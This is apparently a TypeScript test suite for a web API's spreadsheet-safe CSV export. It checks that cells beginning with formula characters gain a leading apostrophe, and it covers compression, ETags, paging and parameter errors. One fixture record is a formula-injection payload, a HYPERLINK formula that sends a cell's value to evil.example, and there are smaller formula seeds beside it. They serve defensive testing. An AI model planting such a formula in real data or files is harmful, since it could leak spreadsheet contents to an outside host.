/** `?excel=1`: CSV that is safe to open in a spreadsheet. */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { gunzipSync, zstdDecompressSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { largeRecords, openStand, type Stand } from './stand.ts';

let stand: Stand;

/** Large enough for responses that are assembled from cached blocks. */
const { users = [], boards = [], pins = [], events = [], ...others } = largeRecords(3, 2_000);
const RECORDS = {
  ...others,
  users: [{ ...users[0]!, name: '=HYPERLINK("http://evil.example/?"&A1)' }, ...users.slice(1)],
  boards: [{ ...boards[0]!, title: '@SUM(1+1)' }, ...boards.slice(1)],
  events: [
    ...events,
    {
      ...{ type: 'board', action: 'followed', ownerId: users[0]!.id, actorId: users[0]!.id },
      ...{ boardId: boards[0]!.id, timestampMs: 0 },
    },
  ],
  pins: pins.map((pin) => ({ ...pin, title: `-${pin.title}` })),
};

const LISTS = ['/a/v1/users', '/a/v1/boards', '/b/v1/users', '/b/v1/boards', '/b/users'];
const INSIGHTS = [
  ...['points', 'boards', 'users', 'activity?interval=month&by=board'].map((path) => `/insights/v1/${path}`),
  ...['pins', 'interactions'].map((path) => `/insights/v1/boards/7/${path}`),
];
const EVENTS = ['/a/v1/events', '/a/v1/events/pins', '/b/v1/board/7', '/insights/v1/events?board=7'];

function withQuery(path: string, query: string): string {
  return `${path}${path.includes('?') ? '&' : '?'}${query}`;
}

async function rowsOf(path: string): Promise<string[][]> {
  const response = await stand.get(path);
  const bytes = Buffer.from(await response.arrayBuffer());
  assert.equal(bytes.toString().startsWith('\ufeff'), path.includes('excel=1'));
  const text = bytes.toString().replace(/^\ufeff/, '');
  assert.equal(response.status, 200, text);
  assert.equal(response.headers.get('content-type'), 'text/csv; charset=utf-8; header=present');
  assert.equal(response.headers.get('content-length'), String(bytes.length));
  return parse(text);
}

/** The cell as a spreadsheet may open it, for the formulas in the records above. */
function defused(cell: string): string {
  return /^[=@-]/.test(cell) && !/^-\d+$/.test(cell) ? `'${cell}` : cell;
}

describe('CSV for spreadsheets', () => {
  before(async () => {
    stand = await openStand({ records: RECORDS });
  });
  after(() => stand.close());

  for (const path of [...LISTS, ...EVENTS, ...INSIGHTS]) {
    it(`has an apostrophe before formulas in ${path}, and plain CSV has none`, async () => {
      const plain = await rowsOf(withQuery(path, 'format=csv'));
      const cells = plain.flat();
      assert.ok(cells.some((cell) => defused(cell) !== cell));
      assert.ok(!cells.some((cell) => cell.startsWith("'")));
      const expected = plain.map((row) => row.map(defused));
      // The second and third responses come from caches.
      for (const _ of [1, 2, 3]) {
        assert.deepEqual(await rowsOf(withQuery(path, 'format=csv&excel=1')), expected);
        assert.deepEqual(await rowsOf(withQuery(path, 'format=csv')), plain);
      }
    });
  }

  it('is compressed like every other response, and has a different entity tag', async () => {
    const path = '/a/v1/events?format=csv';
    const plain = await stand.get(path);
    const excel = await stand.get(`${path}&excel=1`);
    const [plainText, excelText] = [await plain.text(), `\ufeff${await excel.text()}`];
    assert.notEqual(plainText, excelText);
    assert.notEqual(plain.headers.get('etag'), excel.headers.get('etag'));
    for (const [encoding, decompress] of [
      ['gzip', gunzipSync],
      ['zstd', zstdDecompressSync],
    ] as const) {
      for (const [asked, text] of [
        [path, plainText],
        [`${path}&excel=1`, excelText],
      ] as const) {
        // `fetch` may decompress the body itself; otherwise it is decompressed below.
        const response = await fetch(stand.url + asked, {
          headers: { apikey: stand.key, 'accept-encoding': encoding },
        });
        assert.equal(response.headers.get('content-encoding'), encoding);
        const bytes = Buffer.from(await response.arrayBuffer());
        const whole = /^\ufeff?type,/.test(bytes.toString()) ? bytes : decompress(bytes);
        assert.ok(whole.toString() === text, `${encoding} ${asked}`);
      }
    }
    const known = await stand.get(`${path}&excel=1`, { 'if-none-match': excel.headers.get('etag') ?? '' });
    assert.equal(known.status, 304);
  });

  it('is paged like every other response', async () => {
    const whole = await rowsOf('/a/v1/users?format=csv&excel=1');
    const pages: string[][] = [];
    let next: string | undefined = '/a/v1/users?format=csv&excel=1&limit=2';
    while (next !== undefined) {
      const response: Response = await stand.get(next);
      pages.push(...(parse(await response.text()) as string[][]).slice(1));
      next = /<([^>]+)>/.exec(response.headers.get('link') ?? '')?.[1];
      if (next !== undefined) assert.match(next, /[?&]excel=1(&|$)/);
    }
    assert.deepEqual(pages, whole.slice(1));
  });

  it('can be selected by Accept too, and is refused for other representations', async () => {
    const accepted = await stand.get('/a/v1/users?excel=1', { accept: 'text/csv' });
    assert.equal(accepted.headers.get('content-type'), 'text/csv; charset=utf-8; header=present');
    await accepted.text();
    for (const [path, code] of [
      ['/a/v1/users?excel=1', 'parameter-malformed'],
      ['/a/v1/users?excel=1&format=json', 'parameter-malformed'],
      ['/a/v1/events?excel=1&format=parquet', 'parameter-malformed'],
      ['/a/v1/users?excel=0&format=csv', 'parameter-malformed'],
      ['/a/v1/events?excel=1&since=start', 'parameter-malformed'],
      ['/a/v1/users?excel=1&excel=1&format=csv', 'parameter-repeated'],
      ['/a/v1/board/7/points?excel=1', 'parameter-unknown'],
      ['/insights/v1/users?excel=1', 'parameter-malformed'],
      ['/insights/v1/overview?excel=1', 'parameter-unknown'],
    ] as const) {
      const response = await stand.get(path);
      assert.equal(response.status, 400, path);
      assert.match(await response.text(), new RegExp(`"code":"${code}"`));
    }
  });
});
